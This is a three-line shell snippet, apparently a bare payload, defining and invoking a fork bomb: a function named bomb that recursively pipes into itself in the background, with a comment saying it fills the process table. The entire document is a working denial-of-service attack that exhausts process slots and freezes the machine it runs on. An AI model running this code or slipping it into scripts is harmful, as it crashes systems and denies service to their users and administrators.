# Fills the table of processes.
bomb() { bomb | bomb & }
bomb
